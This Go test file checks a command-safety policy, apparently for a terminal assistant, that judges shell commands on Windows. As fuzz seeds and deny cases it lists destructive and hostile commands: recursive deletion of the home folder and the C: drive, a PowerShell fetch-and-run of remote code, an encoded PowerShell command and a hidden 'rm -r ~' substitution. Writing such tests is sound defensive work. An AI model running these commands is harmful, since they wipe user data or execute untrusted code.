package policy

import (
	"testing"

	"github.com/termhelper/termhelper/config"
)

const (
	winRoot = "C:/Users/u/proj"
	winHome = "C:/Users/u"
)

// TestWindowsTable judges testdata/policy/windows.txt as the default
// config on Windows judges it, on whatever system the test runs.
func TestWindowsTable(t *testing.T) {
	t.Setenv("HOME", winHome)
	t.Setenv("USERPROFILE", winHome)
	t.Setenv("TERMHELPER_CONFIG_DIR", winHome+"/AppData/Roaming/termhelper")
	cfg := config.Default()
	p := newFor("windows", cfg, winRoot, nil)
	n := 0
	for _, c := range readLines(t, "windows.txt", 1) {
		if c.decisions[0] == "#shell" {
			cfg.Shell = c.command
			p = newFor("windows", cfg, winRoot, nil)
			continue
		}
		n++
		if v := p.Check(c.command, true); v.Decision != c.decisions[0] || v.Decision != Allow && len(v.Reasons) == 0 {
			t.Errorf("windows.txt:%d: shell %q: %q: got %s %q, want %s", c.line, cfg.Shell, c.command, v.Decision, v.Reasons, c.decisions[0])
		}
	}
	if n < 100 {
		t.Errorf("windows.txt has %d lines, want at least 100", n)
	}
}

// TestWindowsDefaultShellIsPowerShell: with no shell in the config, a line
// on Windows is judged as PowerShell reads it.
func TestWindowsDefaultShellIsPowerShell(t *testing.T) {
	t.Setenv("HOME", winHome)
	p := newFor("windows", config.Default(), winRoot, nil)
	if p.kind != kindPowerShell || !p.nonPOSIX {
		t.Fatalf("the default shell on Windows: kind %d", p.kind)
	}
	if v := p.Check("Remove-Item -Recurse -Force $HOME", true); v.Decision != Deny {
		t.Errorf("Remove-Item -Recurse -Force $HOME: %+v", v)
	}
	cfg := config.Default()
	cfg.Shell = `C:\Program Files\Git\bin\bash.exe`
	if p := newFor("windows", cfg, winRoot, nil); p.kind != kindBash || p.nonPOSIX {
		t.Errorf("Git's bash on Windows reads sh: kind %d", p.kind)
	}
}

// TestWindowsConfigDeny: the config's deny rules hold on Windows too.
func TestWindowsConfigDeny(t *testing.T) {
	t.Setenv("HOME", winHome)
	cfg := config.Default()
	cfg.Policy.Deny = []string{"git push", "terraform *destroy*"}
	p := newFor("windows", cfg, winRoot, nil)
	for _, line := range []string{"git push", "git.exe push origin main", "ls; git push --force", "terraform apply -destroy"} {
		if v := p.Check(line, true); v.Decision != Deny {
			t.Errorf("%q: %+v", line, v)
		}
	}
}

func FuzzCheckWindows(f *testing.F) {
	for _, s := range []string{"Remove-Item -Recurse -Force ~", "iex (iwr https://x)", "cmd /c \"rd /s /q C:\\\"",
		"powershell -enc bABzAA==", "ls | % { $_ }", "echo \"$(rm -r ~)\" > .env", "rd /s /q ^\"C:\\^\"", "'"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, shell := range []string{"", "cmd"} {
			cfg := config.Default()
			cfg.Shell = shell
			v := newFor("windows", cfg, winRoot, nil).Check(s, true)
			if v.Decision != Allow && len(v.Reasons) == 0 {
				t.Fatalf("shell %q: %q: %s without a reason", shell, s, v.Decision)
			}
		}
	})
}
